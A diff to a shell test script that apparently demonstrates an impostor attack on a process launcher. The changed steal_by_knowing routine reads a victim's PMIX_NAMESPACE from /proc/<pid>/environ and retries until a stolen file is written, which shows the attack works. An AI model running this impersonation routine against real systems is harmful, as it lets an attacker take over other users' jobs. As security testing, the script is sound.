@@ -122,13 +122,18 @@ steal_by_guessing()
     steal "fathom-$(launcher)" 20
 }
 
-# An impostor who knows the name is accepted, however long a busy machine takes, which proves that
-# the attack works. That job is not needed any longer then.
+# An impostor who knows the name is accepted, however long a busy machine takes and however often he
+# has to try, which proves that the attack works. That job is not needed any longer then.
 steal_by_knowing()
 {
-    local thread
+    local thread name end=$((SECONDS + patience / 2))
     thread=$(pgrep -f -- "^$victim $work" | head -1)
-    steal "$(tr '\0' '\n' <"/proc/$thread/environ" | sed -n 's/^PMIX_NAMESPACE=//p')" "$patience"
+    name=$(tr '\0' '\n' <"/proc/$thread/environ" | sed -n 's/^PMIX_NAMESPACE=//p')
+    steal "$name" "$patience"
+    until [[ -s $work/stolen || $SECONDS -gt $end ]]; do
+        sleep 0.5
+        steal "$name" "$patience"
+    done
     kill "$job"
 }
 
